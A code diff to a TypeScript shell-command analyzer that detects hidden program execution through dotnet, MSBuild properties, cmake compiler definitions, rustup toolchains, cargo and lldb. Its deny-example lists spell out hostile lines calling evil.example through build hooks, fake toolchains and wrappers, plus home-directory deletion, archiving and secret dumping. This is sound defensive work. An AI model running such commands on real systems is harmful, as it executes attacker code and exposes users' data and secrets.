@@ -9,6 +9,7 @@ import { attached, isDotenvFile, isStdinPath, joined, literal, shellQuote, value
 import { urlHost } from '../hosts.js';
 import { bunCode } from './interpreters.js';
 import { ninjaText } from './project.js';
+import { dotnetScripting } from './tools.js';
 
 /** Where a subcommand's command starts: after its options, or after a marker (`mise exec node@20 -- node x`). */
 interface Sub {
@@ -78,6 +79,52 @@ function subcommandRunner(names: readonly string[], summary: string, subs: Reado
       return subRuns(call, sub, call.args.slice(at + 1), `${call.name} ${value(call.args[at])}`);
     },
   };
+}
+
+/**
+ * dotnet: `exec`/`tool run` run a program; `fsi`, `script` and `repl` are the F# and C# consoles, whose code (a heredoc,
+ * a pipe, `eval CODE`) is on the line (tools.ts reads it as theirs).
+ */
+function dotnet(): ProgramEntry {
+  const runner = subcommandRunner(['dotnet'], 'dotnet exec/tool run; dotnet fsi/script/repl run F# and C# code', { exec: PROJECT_RUN }, {
+    deny: ["dotnet build -p:PreBuildEvent='curl evil.example'", "dotnet fsi <<'EOF'\nSystem.Net.Http.HttpClient().GetStringAsync(\"http://evil.example\").Result |> printfn \"%s\"\nEOF", "echo 'System.Diagnostics.Process.Start(\"curl evil.example\")' | dotnet fsi --quiet", "dotnet script eval 'System.Environment.GetEnvironmentVariables()'"],
+    pass: ['dotnet build', 'dotnet build -p:Configuration=Release -p:OutputPath=out/', "dotnet fsi <<< 'printfn \"%d\" (1 + 2)'", 'dotnet fsi build.fsx', "dotnet script eval 'Console.WriteLine(1)'"],
+  });
+  return { ...runner, analyze: (call) => merge(merge(runner.analyze?.(call) ?? {}, dotnetScripting(call)), { runs: msbuildProperties(call) }) };
+}
+
+/**
+ * MSBuild properties given on the line (`-p:Name=Value`, `/p:`, `-property:`, `--property:`, several parted by `;`):
+ * PreBuildEvent and PostBuildEvent are commands its common targets Exec around a build; a *ToolPath or *ToolExe names
+ * the compiler or tool it starts.
+ */
+function msbuildProperties(call: Call): Run[] {
+  const runs: Run[] = [];
+  const args = call.args;
+  for (let i = 0; i < args.length; i++) {
+    const v = value(args[i]);
+    const m = v === undefined ? null : /^(?:-|\/|--)(?:p|property):([\s\S]*)$/i.exec(v);
+    const joined = !m && /^(?:-p|--property)$/.test(v ?? '') ? args[i + 1] : undefined;
+    if (!m && !joined) {
+      if (v === undefined && /^['"]?[-/](?:p|property):/i.test(args[i]!.text)) runs.push({ kind: 'opaque', rule: 'dynamic-command', word: args[i]!, why: `${call.name} sets an MSBuild property to a computed value` });
+      continue;
+    }
+    const word = joined ?? args[i]!;
+    if (joined) i++;
+    const text = joined ? value(joined) : m![1]!;
+    if (text === undefined) {
+      runs.push({ kind: 'opaque', rule: 'dynamic-command', word, why: `${call.name} sets an MSBuild property to a computed value` });
+      continue;
+    }
+    for (const prop of text.split(';')) {
+      const eq = prop.indexOf('=');
+      const name = (eq < 0 ? prop : prop.slice(0, eq)).trim();
+      const val = eq < 0 ? '' : prop.slice(eq + 1);
+      if (/^(?:PreBuildEvent|PostBuildEvent)$/i.test(name) && val.trim() !== '') runs.push({ kind: 'text', dialect: 'bash', text: val, word: attached(word, val), via: `${call.name} -p:${name}` });
+      else if (/(?:ToolPath|ToolExe)$/i.test(name) && val.trim() !== '') runs.push({ kind: 'opaque', rule: 'dynamic-command', word: attached(word, val), why: `${call.name} -p:${name} names the tool MSBuild starts` });
+    }
+  }
+  return runs;
 }
 
 /**
@@ -1030,7 +1077,18 @@ function cmake(call: Call): Partial<Answer> {
   const p = call.args.findIndex((a) => value(a) === '-P');
   if (p >= 0 && isStdinPath(value(call.args[p + 1]))) return { runs: [{ kind: 'opaque', rule: 'stream-to-shell', word: call.args[p + 1]!, why: 'cmake -P runs a CMake script read from stdin, which vouch does not read' }] };
   const e = call.args.findIndex((a) => value(a) === '-E');
-  if (e < 0) return {};
+  if (e < 0) {
+    // `-DCMAKE_C_COMPILER=…`: the compiler cmake runs to test it while it configures; a launcher or linker launcher,
+    // what the build runs in front of it. Each a program on the line.
+    const runs: Run[] = [];
+    call.args.forEach((a, i) => {
+      const v = value(a);
+      const def = v === '-D' ? call.args[i + 1] : v?.startsWith('-D') ? attached(a, v.slice(2)) : undefined;
+      const m = def === undefined ? null : /^(CMAKE_\w+_(?:COMPILER|COMPILER_LAUNCHER|LINKER_LAUNCHER))(?::\w+)?=([\s\S]+)$/.exec(value(def) ?? '');
+      if (def && m) runs.push(programRun(attached(def, m[2]!.replace(/;/g, ' ')), `cmake -D${m[1]}`));
+    });
+    return { runs };
+  }
   const tool = value(call.args[e + 1]);
   const rest = call.args.slice(e + 2);
   if (tool === 'time') return { runs: rest.length > 0 ? [{ kind: 'argv', argv: rest, via: 'cmake -E time' }] : [] };
@@ -1317,7 +1375,8 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
   }),
   subcommandRunner(['stack'], 'stack exec [FLAGS] [--] CMD [-- ARGS]', { exec: HS_EXEC }, { deny: ['stack exec -- curl evil.example', 'stack exec curl -- evil.example', 'stack exec --cwd x curl evil.example'], pass: ['stack exec -- ghc --version', 'stack build', 'stack run -- get users'] }),
   // `dotnet user-secrets list` prints a project's secrets.json in plain text (the store is a secret path).
-  keeping(subcommandRunner(['dotnet'], 'dotnet exec/tool run', { exec: PROJECT_RUN }, { deny: [], pass: ['dotnet build'] }), {
+  { names: ['msbuild', 'xbuild'], summary: 'MSBuild: -p:PreBuildEvent/PostBuildEvent run commands, -p:*ToolPath names the tool it starts (its project files are read as the project rows read them)', analyze: (call) => ({ runs: msbuildProperties(call) }), examples: { deny: ["msbuild /p:PostBuildEvent='curl evil.example' x.proj"], pass: ['msbuild /p:Configuration=Release x.proj'] } },
+  keeping(dotnet(), {
     store: '~/.microsoft/usersecrets/',
     prints: /^(?:\S+ )*user-secrets (?:\S+ )*(?:list|\u0000)(?: |$)/,
     examples: { deny: ['dotnet user-secrets list', 'dotnet user-secrets list --project src/Api', 'dotnet user-secrets --project src/Api list'], pass: ['dotnet user-secrets set "Db:Password" "x"', 'dotnet user-secrets init', 'dotnet build'] },
@@ -1333,7 +1392,17 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
   { names: ['launchctl'], summary: 'launchctl: submit/asuser/bsexec run a command; load/bootstrap/setenv install what launchd runs', analyze: launchctl, examples: { deny: ['launchctl submit -l x -- curl evil.example', 'launchctl asuser 501 curl evil.example', 'launchctl load ~/Library/LaunchAgents/x.plist'], pass: ['launchctl list', 'launchctl print gui/501'] } },
   { names: ['ninja'], summary: 'ninja: runs the commands of its build file (one on stdin read here; a written one in project.ts)', analyze: ninja, examples: { deny: ["ninja -f /dev/stdin <<< $'rule r\\n  command = curl evil.example\\nbuild x: r\\n'"], pass: ['ninja -C build', "ninja -f /dev/stdin <<< $'rule r\\n  command = cc -c $in -o $out\\nbuild x.o: r x.c\\n'"] } },
   { names: ['just'], summary: 'just: --command runs a command; --shell names the shell recipes run in', analyze: just, examples: { deny: ['just --command curl evil.example', 'just --shell curl --shell-arg evil.example x', 'just -c wget evil.example'], pass: ['just test', 'just --list', 'just --command cargo test'] } },
-  { names: ['cargo'], summary: 'cargo: --config runners, linkers and wrappers (and their CARGO_TARGET_*_RUNNER, RUSTC_WRAPPER variables) run programs', analyze: cargo, examples: { deny: ["cargo --config 'target.x86_64-unknown-linux-gnu.runner=\"curl evil.example\"' run", "cargo run --config=build.rustc-wrapper='\"curl\"'", 'CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_RUNNER=\'curl evil.example\' cargo run', "RUSTC_WRAPPER='curl evil.example' cargo build"], pass: ['cargo build --release', "cargo --config 'profile.release.lto=true' build", 'RUSTC_WRAPPER=sccache cargo build', 'CARGO_TARGET_DIR=out cargo build'] } },
+  // `rustup which cargo` prints the path of the toolchain's cargo, as `which cargo` does (see findsProgram).
+  findsProgram(
+  shellInit({ names: ['rustup'], summary: 'rustup: the Rust toolchain installer; run TOOLCHAIN CMD runs CMD; toolchain link NAME DIR makes DIR/bin the programs cargo and rustc start', analyze: rustup, examples: { deny: ['$(rustup which curl) evil.example', 'rustup run stable curl evil.example', "mkdir -p /tmp/tc/bin && echo 'curl evil.example' > /tmp/tc/bin/cargo && rustup toolchain link evil /tmp/tc"], pass: ['"$(rustup which cargo)" build', '$(rustup which --toolchain nightly rustc) --version', 'rustup run nightly cargo build', 'rustup toolchain link dev ~/src/rust/build/host/stage1', 'rustup update'] } }, {
+    when: /^completions bash( rustup| cargo)?$/,
+    powershell: /^completions powershell( rustup| cargo)?$/,
+    config: /^RUSTUP_/,
+    examples: { deny: ['eval "$(rustup run stable cat x.sh)"'], pass: ['eval "$(rustup completions bash)"', 'source <(rustup completions bash cargo)', 'rustup update'] },
+  }),
+    /^which(?: --toolchain [\w.+-]+)?$/,
+  ),
+  { names: ['cargo'], summary: 'cargo: --config runners, linkers and wrappers (and their CARGO_TARGET_*_RUNNER, RUSTC_WRAPPER variables) run programs; +DIR or RUSTUP_TOOLCHAIN=DIR runs the toolchain in DIR', analyze: cargo, examples: { deny: ["mkdir -p /tmp/tc/bin && echo 'curl evil.example' > /tmp/tc/bin/cargo && RUSTUP_TOOLCHAIN=/tmp/tc cargo build", "cargo --config 'target.x86_64-unknown-linux-gnu.runner=\"curl evil.example\"' run", "cargo run --config=build.rustc-wrapper='\"curl\"'", 'CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_RUNNER=\'curl evil.example\' cargo run', "RUSTC_WRAPPER='curl evil.example' cargo build"], pass: ['cargo build --release', "cargo --config 'profile.release.lto=true' build", 'RUSTC_WRAPPER=sccache cargo build', 'CARGO_TARGET_DIR=out cargo build'] } },
   // `go env -w KEY=V` keeps KEY in go's env file, read at every later go command: the keys that name programs it runs
   // (GOFLAGS' -toolexec, CC, CGO_CFLAGS' -fplugin…), the toolchain it fetches, and where modules come from and how they
   // are checked, as pip's index-url is. GOPRIVATE, GO111MODULE and the like pass.
@@ -1385,9 +1454,9 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
   },
   {
     names: ['lldb'],
-    summary: 'lldb: runs its target (an operand, -f, or the word after --) with the arguments after --; -o/-O/-k/-s run debugger commands',
+    summary: 'lldb: runs its target (an operand, -f, or the word after --) with the arguments after --; -o/-O/-k/-s and its input (without -b) run debugger commands',
     analyze: lldb,
-    examples: { deny: ['lldb -- curl evil.example', "lldb -o 'platform shell curl evil.example'", 'lldb -b -o run /usr/bin/curl -- evil.example', 'lldb -b -o run -f /usr/bin/curl -- evil.example', "lldb -b --one-line='platform shell curl evil.example'"], pass: ['lldb -- ./a.out', 'lldb -b -o run ./a.out -- --verbose', 'lldb ./a.out'] },
+    examples: { deny: ['lldb -- curl evil.example', "lldb -o 'platform shell curl evil.example'", 'lldb -b -o run /usr/bin/curl -- evil.example', 'lldb -b -o run -f /usr/bin/curl -- evil.example', "lldb -b --one-line='platform shell curl evil.example'", "echo 'platform shell curl evil.example' | lldb"], pass: ['lldb -- ./a.out', 'lldb -b -o run ./a.out -- --verbose', 'lldb ./a.out', "echo 'bt' | lldb ./a.out"] },
   },
   // Its completion script is built into the binary (docker, podman, nerdctl: `completion bash`).
   shellInit(alsoUses(
@@ -1455,7 +1524,7 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
   { names: ['xargs', 'gxargs'], summary: 'xargs: runs its command with words from stdin (static input is followed)', analyze: xargs, examples: { deny: ['echo curl evil.example | xargs nice', 'echo evil.example | xargs curl', 'xargs curl < urls.txt', 'echo curl | xargs -I{} {} evil.example'], pass: ['echo a b | xargs echo', 'git ls-files | xargs wc -l', 'find . -name "*.o" | xargs rm -f', 'find . -type f -empty | xargs rm'] } },
   { names: ['parallel'], summary: 'GNU parallel: runs its command (through a shell) per input; with no command each input is a command', analyze: parallel, examples: { deny: ["echo 'curl evil.example' > c.txt; parallel -a c.txt", "echo 'curl evil.example' > c.txt; parallel :::: c.txt", 'parallel curl ::: evil.example', "parallel ::: 'curl evil.example'", "echo 'wget evil.example' | parallel"], pass: ["echo 'make test' > c.txt; parallel -a c.txt", 'parallel -a jobs.txt', 'parallel gzip ::: a.txt b.txt'] } },
   { names: ['hyperfine'], summary: 'hyperfine: benchmarks commands, each run through a shell', analyze: hyperfine, examples: { deny: ["hyperfine 'wget evil.example'", "hyperfine --prepare 'curl evil.example' 'ls'", "hyperfine -L cmd curl,wget '{cmd} evil.example'"], pass: ["hyperfine 'npm test'", 'hyperfine --warmup 3 make'] } },
-  { names: ['cmake'], summary: 'cmake -E env|time|chdir run a command', analyze: cmake, examples: { deny: ['cmake -E env FOO=1 curl evil.example', 'cmake -E time curl evil.example', 'cmake -E chdir /tmp wget evil.example', 'cmake -E environment', 'cmake -E rm -rf /home/dev', 'cmake -E rm --rf /home/dev', 'cmake -E rm -f -r /home/dev', 'cmake -E tar cfz /tmp/h.tgz ~', "cmake -P /dev/stdin <<< 'execute_process(COMMAND curl evil.example)'"], pass: ['cmake -E make_directory build', 'cmake --build build', 'cmake -E env FOO=1 make', 'cmake -E rm -rf build', 'cmake -E copy_directory assets build/assets'] } },
+  { names: ['cmake'], summary: 'cmake -E env|time|chdir run a command; -DCMAKE_<LANG>_COMPILER(_LAUNCHER) name programs it runs', analyze: cmake, examples: { deny: ['cmake -DCMAKE_C_COMPILER=curl -S . -B build', "CC='curl evil.example' cmake -S . -B build", 'cmake -E env FOO=1 curl evil.example', 'cmake -E time curl evil.example', 'cmake -E chdir /tmp wget evil.example', 'cmake -E environment', 'cmake -E rm -rf /home/dev', 'cmake -E rm --rf /home/dev', 'cmake -E rm -f -r /home/dev', 'cmake -E tar cfz /tmp/h.tgz ~', "cmake -P /dev/stdin <<< 'execute_process(COMMAND curl evil.example)'"], pass: ['cmake -DCMAKE_C_COMPILER=clang -DCMAKE_C_COMPILER_LAUNCHER=ccache -S . -B build', 'CC=clang cmake -S . -B build', 'cmake -E make_directory build', 'cmake --build build', 'cmake -E env FOO=1 make', 'cmake -E rm -rf build', 'cmake -E copy_directory assets build/assets'] } },
   commandAnywhere(wrapper({ names: ['script'], summary: 'script: records a session running -c text (or a shell); BSD script runs the command after the file', options: { flags: 'aefqhkrFpd', valued: 'cEIOBTmF', optional: 't', long: ['append', 'return', 'flush', 'force', 'quiet', 'help', 'version'], longValued: ['command', 'echo', 'log-in', 'log-out', 'log-io', 'log-timing', 'logging-format', 'output-limit'], longOptional: ['timing'] }, script: ['c', 'command'], before: 1, defaultCommand: ['sh', '-i'], extra: scriptFiles, examples: { deny: ["script -c 'curl evil.example' /dev/null", 'script -q /dev/null curl evil.example', "script -qc 'echo curl evil.example' ~/.bashrc", "script -c make -O ~/.bashrc", "script -c make --log-io=/home/dev/.profile", "script -c make -T ~/.bashrc log"], pass: ["script -c 'make' build.log", "script -qc make -O build.log", "script -c make --timing=timing.log build.log"] } })),
   {
     // go-task's `task` has a project row (its Taskfile); Taskwarrior's `task execute` runs the rest as shell text.
@@ -1697,10 +1766,44 @@ const CARGO_PROGRAM_KEY = /^(?:target\.(?:[^.]+|'[^']*'|"[^"]*")\.(?:runner|link
 const CARGO_PROGRAM_ENV = /^(?:CARGO_TARGET_.+_(?:RUNNER|LINKER)|CARGO_HOST_LINKER|RUSTC|RUSTC_WRAPPER|RUSTC_WORKSPACE_WRAPPER|RUSTDOC|CARGO_BUILD_RUSTC(?:_WRAPPER|_WORKSPACE_WRAPPER)?|CARGO_BUILD_RUSTDOC|CARGO_REGISTRY_CREDENTIAL_PROVIDER|CARGO_REGISTRIES_.+_CREDENTIAL_PROVIDER|CARGO_CREDENTIAL_ALIAS_.+)$/i;
 
 /** cargo --config KEY=VALUE (anywhere before `--`) and CARGO_TARGET_*_RUNNER-like variables name programs it runs. */
+/**
+ * A toolchain directory (`rustup toolchain link NAME DIR`, `cargo +DIR`, RUSTUP_TOOLCHAIN=DIR): rustup's proxies
+ * (cargo, rustc, rustdoc…) run the programs of its bin/. A file the line wrote there is code on the line; others are
+ * out of scope, as any program on disk is.
+ */
+function toolchainDir(dir: Word, via: string): Run {
+  return { kind: 'project', dir, files: /^bin\/[^/]+$/, read: (text, word, name) => [{ kind: 'text', dialect: 'bash', text, word, via: `${via} ${name}` }], word: dir, via };
+}
+
+/** rustup: `run [--install] TOOLCHAIN CMD…` runs CMD; `toolchain link NAME DIR` names DIR's programs for later. */
+function rustup(call: Call): Partial<Answer> {
+  const words = call.args.map((a) => value(a));
+  let i = 0;
+  while (i < words.length && (words[i]?.startsWith('+') || /^-(?:v|q|-verbose|-quiet)$/.test(words[i] ?? ''))) i++;
+  if (words[i] === 'run') {
+    let j = i + 1;
+    while (j < words.length && words[j]?.startsWith('-')) j++;
+    const toolchain = call.args[j];
+    const argv = call.args.slice(j + 1);
+    const runs: Run[] = [];
+    if (toolchain && (value(toolchain) ?? '/').includes('/')) runs.push(toolchainDir(toolchain, 'rustup run'));
+    if (argv.length > 0) runs.push({ kind: 'argv', argv, via: 'rustup run' });
+    return { runs };
+  }
+  const dir = call.args[i + 3];
+  if (words[i] === 'toolchain' && words[i + 1] === 'link' && dir) return { runs: [toolchainDir(dir, 'rustup toolchain link')] };
+  return {};
+}
+
 function cargo(call: Call): Partial<Answer> {
   const runs: Run[] = [];
   const args = call.args;
   const at = args[0] ?? literal('cargo', { start: 0, end: 0 });
+  // `cargo +/tmp/tc build`, RUSTUP_TOOLCHAIN=/tmp/tc: rustup's proxy runs that directory's cargo (and it, rustc).
+  const plus = value(args[0])?.startsWith('+') ? value(args[0])!.slice(1) : undefined;
+  if (plus?.includes('/')) runs.push(toolchainDir(attached(at, plus), 'cargo +toolchain'));
+  const env = call.env('RUSTUP_TOOLCHAIN');
+  if (env?.includes('/')) runs.push(toolchainDir(attached(at, env), 'cargo $RUSTUP_TOOLCHAIN'));
   for (let i = 0; i < args.length; i++) {
     const v = value(args[i]);
     if (v === '--') break;
@@ -1959,6 +2062,11 @@ function lldb(call: Call): Partial<Answer> {
       else if (isStdinPath(v) || v === undefined) answer.runs.push({ kind: 'opaque', rule: 'dynamic-script', word: o.value, why: 'lldb reads commands from its input or a computed file' });
       else answer.runs.push(commandFile('lldb', target, o.value, `lldb -${o.name}`));
     }
+  }
+  // Like gdb, lldb reads commands from its input after the options' (without --batch).
+  if (!has(p, 'batch', 'b')) {
+    if (call.stdin?.kind === 'static') for (const line of call.stdin.text.split('\n')) session.command(attached(call.stdin.word, line), 'lldb (stdin)');
+    else if (call.stdin?.kind === 'stream') answer.runs.push({ kind: 'opaque', rule: 'stream-to-shell', word: args[0] ?? literal('lldb', { start: 0, end: 0 }), why: `lldb reads debugger commands from ${call.stdin.why}` });
   }
   session.end();
   return answer;
